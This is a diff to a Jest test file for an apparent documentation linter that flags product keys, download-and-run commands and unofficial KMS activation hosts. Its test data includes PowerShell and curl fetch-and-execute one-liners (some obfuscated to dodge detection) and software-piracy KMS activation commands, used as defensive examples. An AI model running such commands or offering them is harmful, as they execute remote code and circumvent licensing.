@@ -13,13 +13,14 @@ const groups = (separator: string) =>
 const placeholder = Array<string>(5).fill('XXXXX').join('-');
 
 describe('product keys', () => {
-  for (const separator of ['-', '–', '—', '\u2011', '_', ' - ', ' ']) {
-    test(`five groups of five joined by "${separator}" are a fault`, () => {
+  test.each(['-', '–', '—', '\u2011', '_', ' - ', ' '])(
+    'groups joined by "%s" are a fault',
+    (separator) => {
       expect(checkProductKeys(source(`a\nKey: ${groups(separator)}.`))).toEqual(
         [expect.objectContaining({path: 'docs/x.md', line: 2})],
       );
-    });
-  }
+    },
+  );
 
   test('finds them in lower case, code and quotation marks', () => {
     for (const text of [
@@ -52,7 +53,7 @@ describe('product keys', () => {
 
 describe('downloads that run', () => {
   const url = 'https://host.example/a';
-  for (const text of [
+  test.each([
     `irm ${url} | iex`,
     `irm ${url}|iex`,
     `iwr -useb ${url} | Invoke-Expression`,
@@ -88,15 +89,13 @@ describe('downloads that run', () => {
     `irm ${url} | &('i' + 'ex')`,
     `irm ${url} | i\`ex`,
     `curl ${url} | po^wershell -`,
-  ]) {
-    test(`${JSON.stringify(text)} is a fault`, () => {
-      expect(checkDownloadAndRun(source(`Text.\n${text}`))).toEqual([
-        expect.objectContaining({line: 2}),
-      ]);
-    });
-  }
+  ])('%j is a fault', (text) => {
+    expect(checkDownloadAndRun(source(`Text.\n${text}`))).toEqual([
+      expect.objectContaining({line: 2}),
+    ]);
+  });
 
-  for (const text of [
+  test.each([
     `curl -LO ${url}`,
     `Invoke-WebRequest ${url} -OutFile a.iso`,
     'Get-FileHash a.iso | Format-List',
@@ -105,16 +104,14 @@ describe('downloads that run', () => {
     '| `curl` | downloads a file | `sh` | runs one |',
     'type a.txt | powershell -NoProfile -Command -',
     'A shell (bash, zsh) and curl are different programs.',
-  ]) {
-    test(`${JSON.stringify(text)} is fine`, () => {
-      expect(checkDownloadAndRun(source(text))).toEqual([]);
-    });
-  }
+  ])('%j is fine', (text) => {
+    expect(checkDownloadAndRun(source(text))).toEqual([]);
+  });
 });
 
 describe('KMS hosts', () => {
   const allowed = [{host: 'kms.vendor.com', reason: 'documented'}];
-  for (const text of [
+  test.each([
     'slmgr /skms kms.host.com',
     'slmgr /skms kms.host.com:1688',
     'slmgr /skms s1.activators.net',
@@ -126,13 +123,11 @@ describe('KMS hosts', () => {
     'A host such as `kms8.host.org`.',
     'e-kms.host.cn',
     '_vlmcs._tcp.host.com',
-  ]) {
-    test(`"${text}" is a fault`, () => {
-      expect(checkKmsHosts(source(text), allowed)).toHaveLength(1);
-    });
-  }
+  ])('"%s" is a fault', (text) => {
+    expect(checkKmsHosts(source(text), allowed)).toHaveLength(1);
+  });
 
-  for (const text of [
+  test.each([
     'slmgr /skms kms.corp.example:1688',
     'cscript ospp.vbs /sethst:kms.corp.example',
     'slmgr /skms-domain corp.example',
@@ -144,11 +139,9 @@ describe('KMS hosts', () => {
     'https://host.example/get-started/kms-client.aspx/x',
     'AutoKMS.exe',
     'return kmsHost.place;',
-  ]) {
-    test(`"${text}" is fine`, () => {
-      expect(checkKmsHosts(source(text), allowed)).toEqual([]);
-    });
-  }
+  ])('"%s" is fine', (text) => {
+    expect(checkKmsHosts(source(text), allowed)).toEqual([]);
+  });
 });
 
 describe('hosts', () => {
